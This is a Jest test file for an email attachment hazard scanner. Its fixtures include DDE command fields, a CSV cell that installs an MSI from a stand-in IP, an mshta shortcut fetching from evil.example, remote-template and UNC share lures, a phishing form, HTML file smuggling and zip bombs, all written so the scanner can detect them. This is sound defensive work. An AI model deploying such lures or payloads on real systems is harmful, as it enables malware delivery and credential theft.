/**
 * What files do and hide: real files of other projects and real tools, each seen as what it is; twins without anything bad.
 * Long because it is one table of files; the makers of each kind are used by several of its rows.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, gunzipSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Attachment } from '../../src/domain/message.ts';
import { attachments, readAttachments } from '../../src/traits/attachments.ts';
import { cpuClock } from '../cpuTime.ts';
import { latin1, packed, part, tarWith, zip, zipOf, zipWith } from './parts.ts';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures');
const OLETOOLS = join(FIXTURES, 'oletools');
const FILES = join(FIXTURES, 'files');
const oletools = (name: string): Buffer => readFileSync(join(OLETOOLS, name));
const made = (name: string): Buffer => readFileSync(join(FILES, name));

async function only(...args: Parameters<typeof part>): Promise<Attachment> {
  const [file] = await attachments({ parts: [part(...args)] });
  if (file === undefined) throw new Error('no attachment');
  return file;
}

const seen = async (...args: Parameters<typeof part>): Promise<readonly string[]> =>
  (await only(...args)).hazards.map(
    ({ kind, quote, inside }) => `${kind}: ${quote}${inside === undefined ? '' : ` in ${inside}`}`,
  );

const CALC = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';

describe('Office files of oletools', () => {
  test.each([
    [
      'autostart-encrypt-standardpassword.xls',
      ['macro: VBA project', 'macro-auto-run: Auto_Open', 'default-password: VelvetSweatshop'],
    ],
    [
      'autostart-encrypt-standardpassword.xlsm',
      ['default-password: VelvetSweatshop', 'macro: VBA project', 'macro-auto-run: Auto_Open'],
    ],
    ['dde-test-encrypt-standardpassword.xls', ['default-password: VelvetSweatshop', 'command-field: cmd|/c calc.exe']],
    ['dde-test-encrypt-standardpassword.xlsx', ['default-password: VelvetSweatshop', 'command-field: cmd|/c calc.exe']],
    ['oleform-PR314.docm', ['macro: VBA project']],
    ['sample_with_vba.ppt', ['macro: VBA project']],
    ['excel4_sample_macro.slk', ['macro: Excel 4.0 macro sheet in SYLK', 'macro-auto-run: Auto_Open']],
    ['excel4_sample_macro.xls', ['macro: Excel 4.0 macro sheet Macro1', 'macro-auto-run: Auto_Open']],
    ['excel4_sample_macro.xlt', ['macro: Excel 4.0 macro sheet Macro1', 'macro-auto-run: Auto_Open']],
    [
      'excel4_sample_macro.xlsb',
      ['macro: Excel 4.0 macro sheet xl/macrosheets/sheet1.bin', 'macro-auto-run: Auto_Open'],
    ],
    [
      'excel4_sample_macro.xlsm',
      ['macro: Excel 4.0 macro sheet xl/macrosheets/sheet1.xml', 'macro-auto-run: Auto_Open'],
    ],
    [
      'excel4_sample_macro.xltm',
      ['macro: Excel 4.0 macro sheet xl/macrosheets/sheet1.xml', 'macro-auto-run: Auto_Open'],
    ],
    ['excel4_sample_macro_excel5_format.xls', ['macro-auto-run: Auto_Open', 'macro: Excel 4.0 macro sheet Macro1']],
    ['dde-in-csv.csv', ["command-field: =cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0"]],
    ['dde-in-excel2003.xml', ["command-field: =cmd|'/c calc.exe'!A1"]],
    ['dde-in-word2003.xml', [`command-field: DDEAUTO ${CALC}`]],
    ['dde-in-word2007.xml', [`command-field: DDEAUTO ${CALC}`]],
    ['dde-test-from-office2013-utf_16le-korean.doc', [`command-field: DDEAUTO ${CALC}`]],
    ...['dde-test-from-office2003.doc', 'dde-test-from-office2016.doc', 'dde-test.docm', 'dde-test.docx'].map(
      (name): [string, readonly string[]] => [
        name,
        [
          `command-field: DDEAUTO ${CALC}`,
          `command-field: DDE ${CALC}`,
          'command-field: ddeauto \u00fcnic\u00f6de-test',
        ],
      ],
    ),
    ['dde-test.xlsx', ['command-field: cmd|/c calc.exe']],
    ['dde-test.xlsm', ['command-field: cmd|/c calc.exe']],
    ['dde-test.xlsb', ['command-field: cmd|/c calc.exe']],
    ['sample_with_calc_embedded.doc', ['embedded-program: calc.exe']],
    ['sample_with_lnk_file.doc', ['embedded-program: calc.lnk']],
    ['sample_with_lnk_file.ppt', ['embedded-program: calc.lnk']],
    ...[
      'sample_with_external_link_to_doc.docx',
      'sample_with_external_link_to_doc.xlsb',
      'sample_with_external_link_to_doc.pptx',
    ].map((name): [string, unknown] => [
      name,
      [expect.stringMatching(/^remote-template: oleObject https:\/\/raw\.githubusercontent\.com\/decalage2\//)],
    ]),
    // Twins: the same programs' files with nothing in them, and with a text file kept inside.
    ['harmless-clean.doc', []],
    ['harmless-clean.docx', []],
    ['harmless-clean.docm', []],
    ['embedded-simple-2007.doc', []],
    ['embedded-simple-2007.xlsx', []],
    ['embedded-simple-2007-as2003.xml', []],
    ['encrypted.docx', []],
  ])('%s', async (name, expected) => {
    const path = name === 'encrypted.docx' ? 'encrypted.xlsx' : name;
    expect(await seen(path, oletools(path))).toEqual(expected);
  });

  test.each(['encrypted.doc', 'encrypted.xls', 'encrypted.ppt', 'encrypted.xlsx'])('%s is locked', async (name) => {
    expect((await only(name, oletools(name))).isEncrypted).toBe(true);
  });
});

describe('a page in an archive', () => {
  const LOGIN = '<form action="https://evil.example/"><input type=password></form>';
  test.each([
    [
      'that goes elsewhere',
      'a.html',
      '<script>location.href="https://evil.example/"</script>',
      ['page-script: script 1, redirect'],
    ],
    [
      'that goes elsewhere without a script',
      'a.htm',
      '<meta http-equiv=refresh content="0;url=https://evil.example/">',
      ['page-script: refresh redirect 1'],
    ],
    ['that asks for a password', 'a.xhtml', LOGIN, ['page-password: password field']],
    [
      'without a name for it',
      'a',
      `<html><body onload="x()">${LOGIN}`,
      ['page-password: password field', 'page-script: onload'],
    ],
    [
      'that is a picture',
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>eval("1")</script></svg>',
      ['page-script: script 1, eval'],
    ],
    [
      'with links, a search and a picture',
      'a.html',
      '<a href="https://a.example/">a</a><form><input name=q></form><img src="a.png">',
      [],
    ],
    ['a picture that only shows', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', []],
  ])('%s', async (_name, name, content, expected) => {
    const inside = (path: string) => expected.map((hazard) => `${hazard} in ${path}`);
    expect(await seen('a.zip', zipWith({ [name]: content }))).toEqual(inside(name));
    expect(await seen('a.zip', zipWith({ 'b.zip': zipWith({ [name]: content }) }))).toEqual(inside(`b.zip/${name}`));
    expect(await seen('a.gz', gzipSync(content))).toEqual(inside('content'));
  });
});

describe('a web archive with macros, opened by Office under any of its names', () => {
  const HEAD =
    'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>a</p>\r\n';
  const headed = (bytes: Buffer) => Buffer.concat([latin1('ActiveMime'.padEnd(0x32, '\0')), deflateSync(bytes)]);
  const MACROS = headed(oletools('excel4_sample_macro.xls'));
  const lines = MACROS.toString('base64').replace(/.{76}/g, '$&\r\n');
  const archive = (encoded = lines) => `${HEAD}--x\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded}\r\n--x--\r\n`;
  const FOUND = ['macro: Excel 4.0 macro sheet Macro1', 'macro-auto-run: Auto_Open'];
  test.each([
    ['as Word writes it', 'a.doc', archive()],
    ['by its own name', 'a.mht', archive()],
    ['behind a mail header', 'a.doc', `From: x\r\nSubject: y\r\n${archive()}`],
    ['behind a line of text', 'a.docx', `Dear customer\r\n${archive()}`],
    ['behind a PDF', 'a.doc', `%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n\n${archive()}`],
    ['in front of a zip', 'a.doc', Buffer.concat([latin1(archive()), zip(['readme.txt'])])],
    ['indented', 'a.xls', archive(` ${lines.replaceAll('\n', '\n ')}`)],
    [
      'in short lines with other signs between',
      'a.ppt',
      archive(
        MACROS.toString('base64')
          .replace(/^.{3}|.{40}/g, '$&\r\n')
          .replaceAll('A\r\n', 'A*\r\n'),
      ),
    ],
    ['the second of two', 'a.doc', archive(`${headed(Buffer.from('x')).toString('base64')}\r\n--x\r\n\r\n${lines}`)],
    ['as bytes', 'a.doc', Buffer.concat([latin1(`${HEAD}--x\r\n\r\n`), MACROS])],
  ])('%s', async (_name, name, content) => {
    expect(await seen(name, content)).toEqual(FOUND);
  });
  test.each([
    ['a text', 'a.txt', archive()],
    ['a list', 'a.csv', archive()],
    ['without macros', 'a.doc', archive(headed(oletools('embedded-simple-2007.doc')).toString('base64'))],
    ['a document about it', 'a.doc', 'ActiveMime is a format.'],
  ])('not: %s', async (_name, name, content) => {
    expect(await seen(name, content)).toEqual([]);
  });
  test('what cannot be unpacked is told', async () => {
    const { defects } = await readAttachments({ parts: [part('a.doc', `${HEAD}--x\r\n\r\nActiveMime=00=00=01`)] });
    expect(defects).toEqual([{ code: 'unread-files', detail: expect.stringContaining('macros of a web archive') }]);
  });
});

describe('what tells a document that loads from elsewhere', () => {
  const word = (relations: string) =>
    zipWith({
      '[Content_Types].xml': '<Types/>',
      'word/document.xml': '<w:p/>',
      'word/_rels/settings.xml.rels': relations,
    });
  const relation = (type: string, target: string, mode = 'External') =>
    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
  test.each([
    [
      'a template',
      relation('attachedTemplate', 'https://evil.example/t.dotm'),
      ['remote-template: attachedTemplate https://evil.example/t.dotm'],
    ],
    [
      'a template on a share',
      relation('attachedTemplate', 'file:///\\\\203.0.113.9\\x\\t.dotm'),
      [expect.stringContaining('203.0.113.9')],
    ],
    [
      'an object',
      relation('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/b'),
      [expect.stringContaining('oleObject mhtml:')],
    ],
    [
      'the writer\u2019s own template',
      relation('attachedTemplate', 'file:///C:\\Users\\bea\\Templates\\Letter.dotx'),
      [],
    ],
    ['a link', relation('hyperlink', 'https://partner.example/'), []],
    ['a picture', relation('image', 'https://partner.example/logo.png'), []],
    ['a template inside', relation('attachedTemplate', 'https://x.example/', 'Internal'), []],
  ])('%s', async (_name, relations, expected) => {
    expect(await seen('a.docx', word(relations))).toEqual(expected);
  });

  test.each([
    [
      'rtf',
      '{\\rtf1{\\*\\template https://evil.example/t.dotm}x}',
      ['remote-template: template https://evil.example/t.dotm'],
    ],
    ['rtf of its writer', '{\\rtf1{\\*\\template C:\\\\Templates\\\\a.dot}x}', []],
    [
      'DDE in rtf',
      '{\\rtf1{\\field{\\*\\fldinst{\\b D}DE{\\i AUTO} c:\\\\\\\\cmd.exe "/c calc"}{\\fldrslt x}}}',
      [expect.stringMatching(/^command-field: DDEAUTO c:/)],
    ],
    [
      'DDE in numbers',
      "{\\rtf1{\\field{\\*\\fldinst \\'44\\'44\\'45AUTO cmd \\\\\\\\ x}{\\fldrslt}}}",
      [expect.stringMatching(/^command-field: DDEAUTO cmd/)],
    ],
    ['a link in rtf', '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://a.example/"}{\\fldrslt x}}}', []],
    ['words about it', '{\\rtf1 the word \\\\objocx and DDEAUTO in a manual}', []],
  ])('%s', async (_name, text, expected) => {
    expect(await seen('a.rtf', text)).toEqual(expected);
  });

  test.each([
    ["=cmd|'/c calc'!A0", 1],
    ["a;b\n1;@SUM(1+9)*cmd|'/c calc'!A0", 1],
    ["-2+3+cmd|'/C notepad'!D2", 1],
    ['=SUM(A1:A9)', 0],
    ['pipe|separated|values\n=x|y', 0],
    ['the cmd | pipe, explained', 0],
    ["=msiexec|'/q /i http://198.51.100.9/a.msi'!A0", 1],
    ["a;b\n1;=x.y|'anything'!''", 1],
    ['1,"=SUM(1,2)*run |\' /C calc\' !A0"', 1],
    ["=1+\ncmd|'/c calc'!A0", 1],
    ['=cmd|calc!A0', 1],
    ["=cmd|'/c calc'", 0], // no item: Excel takes it for text
    ['Kurs;Inhalt\n"Office 1";"- Excel | Word | PowerPoint"', 0],
    ['1;"- excel | 5 pieces"\n2;-Excel course|2 days', 0],
    ["1;the word|'topic'!item in a text", 0],
    [`${"x|'y'!z\n".repeat(2_001)}`, 1], // no list, and it may have one further on
  ])('a cell %j', async (text, count) => {
    expect(await seen('a.csv', text)).toHaveLength(count);
  });
  test.each([
    ["C;Y1;X1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!''", 1],
    ["C;X1;E1+run|'/c calc'!A0;K0", 1],
    ["NN;Nx;Erun|'/c calc'!A0", 1],
    ['C;X1;ESUM(R1C1:R9C1)', 0],
    ['C;X1;K"Excel|Word"', 0],
    ["C;X1;K0\nO;run|'/c calc'!A0", 0],
  ])('a SYLK record %j', async (record, count) => {
    expect(await seen('a.csv', `ID;PWXL;N;E\n${record}\nE\n`)).toHaveLength(count);
  });
});

describe('objects in RTF', () => {
  const text = (value: string): string => {
    const bytes = latin1(`${value}\0`);
    const length = Buffer.alloc(4);
    length.writeUInt32LE(bytes.length);
    return Buffer.concat([length, bytes]).toString('hex');
  };
  /** MS-OLEDS §2.2.5 as text. */
  const rtf = (className: string, data: Buffer): string => {
    const none = '00000000';
    const hex = `01050000 02000000 ${text(className)}${none}${none}${none}${data.toString('hex')}`;
    return `{\\rtf1{\\object\\objemb{\\*\\objdata ${hex.replace(/.{60}/g, '$&\\par\n')}}}}`;
  };
  const packageOf = (name: string): Buffer =>
    Buffer.concat([
      latin1(`\x02\0${name}\0C:\\${name}\0\0\0\x03\0`),
      Buffer.alloc(4),
      Buffer.alloc(4),
      latin1('hello'),
    ]);
  test.each([
    ['the equation editor', rtf('Equation.3', Buffer.alloc(20)), ['embedded-program: Equation.3 object']],
    ['a script as a package', rtf('Package', packageOf('open.js')), ['embedded-program: open.js']],
    ['a text as a package', rtf('Package', packageOf('notes.txt')), []],
    ['a table', rtf('Excel.Sheet.12', Buffer.alloc(20)), []],
  ])('%s', async (_name, content, expected) => {
    expect(await seen('a.rtf', content)).toEqual(expected);
  });
});

describe('PDF', () => {
  test.each([
    ['open-script.pdf', ['pdf-open-action: OpenAction JavaScript', 'pdf-script: JavaScript']],
    ['packed-script.pdf', ['pdf-open-action: OpenAction JavaScript', 'pdf-script: JavaScript']],
    ['launch.pdf', ['pdf-open-action: OpenAction Launch', 'pdf-launch: Launch calc.exe']],
    [
      'file-script.pdf',
      [
        'pdf-open-action: OpenAction JavaScript',
        'pdf-script: JavaScript',
        'pdf-script: exportDataObject',
        'pdf-file: a.docm',
      ],
    ],
    ['form.pdf', ['pdf-open-action: AA', 'pdf-script: JavaScript']],
    ['with-file.pdf', ['pdf-file: notes.txt']],
    ['plain.pdf', []],
    ['payslip.pdf', []],
  ])('%s', async (name, expected) => {
    expect(await seen(name, made(name))).toEqual(expected);
  });
  test('names written in numbers', async () => {
    expect(await seen('a.pdf', '%PDF-1.4\n1 0 obj <</S /L#61unch /F (cmd.exe)>> endobj')).toEqual([
      'pdf-launch: Launch cmd.exe',
    ]);
  });
  test('words in a page are no action', async () => {
    expect(
      await seen('a.pdf', '%PDF-1.4\n1 0 obj << /Length 40 >> stream\n(/JavaScript /Launch) Tj\nendstream'),
    ).toEqual([]);
  });
  test('payslip.pdf is locked', async () => {
    expect((await only('payslip.pdf', made('payslip.pdf'))).isEncrypted).toBe(true);
  });
});

describe('archives of real tools', () => {
  test.each([
    ['files.tar.gz', 'gz', false, ['files.tar', 'files.tar/invoice.pdf.js', 'files.tar/notes.txt']],
    ['nested.zip', 'zip', false, ['inner.zip', 'src/notes.txt', 'inner.zip/invoice.pdf.js']],
    ['outer-locked.zip', 'zip', true, ['locked.zip', 'locked.zip/invoice.pdf.js']],
    ['locked.7z', '7z', true, ['invoice.pdf.js', 'notes.txt']],
    ['hidden.7z', '7z', true, []],
    ['unpacked-header.7z', '7z', false, ['invoice.pdf.js', 'notes.txt']],
  ])('%s', async (name, trueType, isEncrypted, entryNames) => {
    expect(await only(name, made(name))).toMatchObject({ trueType, isEncrypted, entryNames, hazards: [] });
  });
  test('a list of 42 names that is packed with LZMA', async () => {
    const { entryNames } = await only('plain.7z', made('plain.7z'));
    expect(entryNames).toHaveLength(42);
    expect(entryNames).toEqual(expect.arrayContaining(['invoice.pdf.js', 'page-1.txt', 'page-40.txt']));
  });
  test('a disk image', async () => {
    const { kind, entryNames } = await only('disk.iso', gunzipSync(made('disk.iso.gz')));
    expect({ kind, entryNames }).toEqual({ kind: 'disk-image', entryNames: ['invoice.pdf.js', 'notes.txt'] });
  });
  test('a plain tar, by its content alone', async () => {
    const tar = gunzipSync(made('files.tar.gz'));
    expect(await only('a.bin', tar)).toMatchObject({
      trueType: 'tar',
      kind: 'archive',
      entryNames: ['invoice.pdf.js', 'notes.txt'],
    });
  });
  test('a program among two hundred fillers is among the names', async () => {
    const names = [...Array.from({ length: 200 }, (_, i) => `${i}.txt`), 'run.exe'];
    const { entryNames } = await only('a.zip', zip(names));
    expect(entryNames).toHaveLength(100);
    expect(entryNames[0]).toBe('run.exe');
  });
  test('macros in a document in an archive in an archive', async () => {
    const inner = zipWith({ 'a.xls': oletools('excel4_sample_macro.xls') });
    expect(await seen('a.zip', zipWith({ 'inner.zip': inner }))).toEqual([
      'macro: Excel 4.0 macro sheet Macro1 in inner.zip/a.xls',
      'macro-auto-run: Auto_Open in inner.zip/a.xls',
    ]);
  });
  test('programs in a zip, by their bytes', async () => {
    const windows = latin1(`MZ\x90\0${'\0'.repeat(80)}`);
    expect(
      await seen('a.zip', zipWith({ 'invoice.com': windows, 'a.dll': windows, b: '\x7fELF\x02\x01\x01\0\0' })),
    ).toEqual([
      'program: Windows program in invoice.com',
      'program: Windows program in a.dll',
      'program: Linux program in b',
    ]);
    expect(await seen('a.zip', zipWith({ 'notes.txt': 'MZ is how such files begin', 'a.py': 'print(1)' }))).toEqual([]);
  });
  test('photographs in a zip', async () => {
    const photo = Buffer.concat([latin1('\xff\xd8\xff\xe0'), Buffer.alloc(5_000, 7)]);
    expect(await only('photos.zip', zipWith({ 'IMG_1.JPG': photo, 'IMG_2.JPG': photo }))).toMatchObject({
      isEncrypted: false,
      entryNames: ['IMG_1.JPG', 'IMG_2.JPG'],
      hazards: [],
    });
  });
});

describe('archives that are made to burst', () => {
  const zeros = Buffer.alloc(60 * 1024 * 1024);
  test('one file that packs a thousand to one', async () => {
    expect(await seen('a.zip', zipWith({ 'a.txt': zeros }))).toEqual([
      expect.stringMatching(/^bomb: 60 MB in \d+ bytes$/),
    ]);
  });
  test('a gz', async () => {
    expect(await seen('a.gz', gzipSync(zeros))).toEqual([expect.stringMatching(/^bomb: 60 MB in/)]);
  });
  test('a gz with bytes after its end, which Mimecast sends', async () => {
    expect(
      await seen(
        'report.xml.gz',
        Buffer.concat([gzipSync('<feedback/>'), Buffer.from('\n\xff\xff\xff\x0a', 'latin1')]),
      ),
    ).toEqual([]);
  });
  test('files that overlap', async () => {
    const file = packed('a.txt', Buffer.alloc(1_000_000, 'a'));
    const size = 30 * 1024 * 1024;
    const names = Array.from({ length: 4 }, (_, i) => ({ ...file, name: `${i}`, size }));
    expect(await seen('a.zip', zipOf(names))).toEqual([expect.stringMatching(/^bomb: 120 MB/)]);
  });
  test('a tar.gz is one archive: two in each other are no bomb, four are', async () => {
    const nested = (count: number): Buffer =>
      gzipSync(tarWith('a/lib.tar.gz', count === 1 ? gzipSync(tarWith('a.txt', Buffer.from('x'))) : nested(count - 1)));
    expect(await seen('a.tar.gz', nested(1))).toEqual([]);
    expect(await seen('a.tar.gz', nested(3))).toEqual([expect.stringMatching(/^bomb: archives 3 deep/)]);
  });
  test('five deep', async () => {
    let content = zipWith({ 'a.txt': 'x' });
    for (let i = 0; i < 5; i++) content = zipWith({ 'a.zip': content });
    expect(await seen('a.zip', content)).toEqual([expect.stringMatching(/^bomb: archives 3 deep/)]);
  });
  test('one that says it is small is unpacked no further than what there is to spend', async () => {
    const lie = { ...packed('0.js', zeros), size: 100 };
    const lies = Array.from({ length: 40 }, (_, i) => ({ ...lie, name: `${i}.js` }));
    const content = zipOf(lies);
    const spentMs = cpuClock();
    await only('a.zip', content);
    expect(spentMs()).toBeLessThan(1_500);
  });
  test('a table and a log that pack well are none', async () => {
    const log = Buffer.from('2026-11-24 12:00:00 GET /index.html 200\n'.repeat(200_000));
    expect(await seen('log.zip', zipWith({ 'access.log': log }))).toEqual([]);
  });
});

describe('the EICAR test file', () => {
  const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
  test.each([
    ['alone', 'a.txt', eicar, ['test-virus: EICAR test file']],
    ['with blanks after it', 'a.com', `${eicar}\r\n \t`, ['test-virus: EICAR test file']],
    ['in a zip', 'a.zip', zipWith({ 'a.com': eicar }), ['test-virus: EICAR test file in a.com']],
    ['in a zip under the name of a picture', 'a.zip', zipWith({ 'a.png': eicar }), []],
    ['quoted', 'a.txt', `The string ${eicar}`, []],
    ['with more after it', 'a.txt', `${eicar} and so on`, []],
  ])('%s', async (_name, fileName, content, expected) => {
    expect(await seen(fileName, content)).toEqual(expected);
  });
});

describe('shortcuts', () => {
  /** MS-SHLLINK: header, working directory and arguments in UTF-16. */
  function link({ path, args }: { readonly path: string; readonly args: string }): Buffer {
    const header = Buffer.alloc(76);
    latin1('L\0\0\0\x01\x14\x02\0').copy(header);
    header.writeUInt32LE(8 | 32 | 128, 20);
    const text = (value: string) => {
      const length = Buffer.alloc(2);
      length.writeUInt16LE(value.length);
      return Buffer.concat([length, Buffer.from(value, 'utf16le')]);
    };
    return Buffer.concat([header, text(path), text(args)]);
  }
  /** EnvironmentVariableDataBlock (§2.5.4). */
  function environment(target: string): Buffer {
    const block = Buffer.alloc(0x314);
    block.writeUInt32LE(0x314, 0);
    block.writeUInt32LE(0xa000_0001, 4);
    block.write(target, 8, 'latin1');
    block.write(target, 268, 'utf16le');
    return block;
  }
  test.each([
    [
      'a command',
      'invoice.lnk',
      link({ path: '..\\..\\Windows\\System32\\cmd.exe', args: '/c   start   mshta https://evil.example/a' }),
      ['shortcut-command: ..\\..\\Windows\\System32\\cmd.exe /c start mshta https://evil.example/a'],
    ],
    [
      'a command in a zip',
      'a.zip',
      zipWith({ 'a.lnk': link({ path: 'powershell.exe', args: '-w hidden' }) }),
      ['shortcut-command: powershell.exe -w hidden in a.lnk'],
    ],
    [
      'a command behind nine thousand blanks',
      'a.lnk',
      link({ path: 'cmd.exe', args: `${' '.repeat(9_000)}/c calc` }),
      ['shortcut-command: cmd.exe /c calc'],
    ],
    [
      'a target with variables, which counts first',
      'a.lnk',
      Buffer.concat([link({ path: 'C:\\Projects', args: '' }), environment('%comspec%')]),
      ['shortcut-command: %comspec%'],
    ],
    [
      'a target elsewhere, likewise',
      'a.lnk',
      Buffer.concat([link({ path: 'C:\\Projects', args: '' }), environment('\\\\evil.example@80\\dav\\x.exe')]),
      ['shortcut-remote: \\\\evil.example@80\\dav\\x.exe'],
    ],
    ['a folder', 'a.lnk', link({ path: 'C:\\Projects', args: '' }), []],
    ['a real one, to a program without words', 'calc.lnk', made('calc.lnk'), []],
    ['a page', 'a.url', '[InternetShortcut]\r\nURL=https://partner.example/\r\n', []],
    [
      'a share',
      'a.url',
      '[InternetShortcut]\r\nURL=file://203.0.113.9/x/a.exe\r\n',
      ['shortcut-remote: file://203.0.113.9/x/a.exe'],
    ],
    [
      'an icon on a share',
      'a.scf',
      '[Shell]\nIconFile=\\\\203.0.113.9\\x\\i.ico\n',
      ['shortcut-remote: \\\\203.0.113.9\\x\\i.ico'],
    ],
    [
      'a search elsewhere',
      'a.search-ms',
      '<persistedQuery><include path="\\\\203.0.113.9\\dav"/></persistedQuery>',
      ['shortcut-remote: \\\\203.0.113.9\\dav'],
    ],
    [
      'a library',
      'a.library-ms',
      '<simpleLocation><url>\\\\203.0.113.9@80\\dav</url></simpleLocation>',
      ['shortcut-remote: \\\\203.0.113.9@80\\dav'],
    ],
    ['a web query', 'a.iqy', 'WEB\n1\nhttps://evil.example/q\n', ['shortcut-remote: https://evil.example/q']],
  ])('%s', async (_name, fileName, content, expected) => {
    expect(await seen(fileName, content)).toEqual(expected);
  });
});

describe('notes with files inside', () => {
  const mark = latin1('\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3');
  /** MS-ONESTORE §2.6.13 in what is read of it; no real notebook was at hand. */
  const notes = (name: string, content: Buffer): Buffer => {
    const header = Buffer.alloc(36);
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(header);
    header.writeBigUInt64LE(BigInt(content.length), 16);
    return Buffer.concat([mark, Buffer.from(name, 'utf16le'), header, content]);
  };
  test.each([
    [
      'a script',
      notes('\0open.hta\0', Buffer.from('<script language="vbscript">x</script>')),
      ['embedded-program: unnamed script', 'embedded-program: open.hta'],
    ],
    ['a program', notes('\0a\0', latin1(`MZ\x90\0${'\0'.repeat(80)}`)), ['embedded-program: unnamed exe']],
    ['a picture', notes('\0photo.png\0', latin1('\x89PNG\r\n\x1a\n')), []],
    ['words about a script', Buffer.concat([mark, Buffer.from('run.hta', 'utf16le')]), []],
  ])('%s', async (_name, content, expected) => {
    expect(await seen('a.one', content)).toEqual(expected);
  });
});

describe('pages that build a file', () => {
  const payload = zip(Array.from({ length: 12 }, (_, i) => `file-${i}.exe`)).toString('base64');
  const page = (script: string) => `<html><body><script>${script}</script></body></html>`;
  test.each([
    [
      'a blob',
      page(
        `var d="${payload}";var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download="x.zip";a.click()`,
      ),
      [expect.stringMatching(/^smuggled-file: zip of \d+ characters, createObjectURL$/)],
    ],
    [
      'a link that holds an archive',
      `<a href="data:application/zip;base64,${payload}" download="x.zip">open</a>`,
      [expect.stringMatching(/^smuggled-file: zip in a data: link/)],
    ],
    ['a picture in a page with scripts', `${page('menu()')}<img src="data:image/png;base64,${payload}">`, []],
    [
      'a report that saves its own table',
      page('var b=new Blob([table.innerText]);a.href=URL.createObjectURL(b);a.download="t.csv"'),
      [],
    ],
    ['a library with a long font', page(`var font="${payload}";load(atob(font))`), []],
  ])('%s', async (_name, html, expected) => {
    expect(await seen('a.html', html)).toEqual(expected);
    const inArchive = await seen('a.zip', zipWith({ 'a.html': html }));
    expect(inArchive.filter((hazard) => hazard.startsWith('smuggled'))).toHaveLength(expected.length);
  });
});

test('any of these files damaged anywhere is read, and soon', async () => {
  const all = [OLETOOLS, FILES].flatMap((dir) =>
    readdirSync(dir)
      .filter((name) => !/^[A-Z]/.test(name))
      .map((name) => ({
        name: name.replace('.iso.gz', '.iso'),
        content: name.endsWith('.iso.gz') ? gunzipSync(readFileSync(join(dir, name))) : readFileSync(join(dir, name)),
      })),
  );
  const damage = fc.record({
    file: fc.constantFrom(...all),
    cuts: fc.array(
      fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.uint8Array({ minLength: 1, maxLength: 8 })),
      { minLength: 1, maxLength: 12 },
    ),
    keep: fc.double({ min: 0.2, max: 1, noNaN: true }),
    isWrapped: fc.boolean(),
  });
  await fc.assert(
    fc.asyncProperty(damage, async ({ file: { name, content }, cuts, keep, isWrapped }) => {
      const damaged = Buffer.from(content.subarray(0, Math.ceil(content.length * keep)));
      for (const [at, bytes] of cuts)
        damaged.set(
          bytes.subarray(0, damaged.length - Math.floor(damaged.length * at)),
          Math.floor(damaged.length * at),
        );
      const spentMs = cpuClock();
      const { hazards } = isWrapped ? await only('a.zip', zipWith({ [name]: damaged })) : await only(name, damaged);
      expect(hazards.length).toBeLessThanOrEqual(40);
      expect(spentMs()).toBeLessThan(2_000);
    }),
    { numRuns: 600 },
  );
}, 60_000);
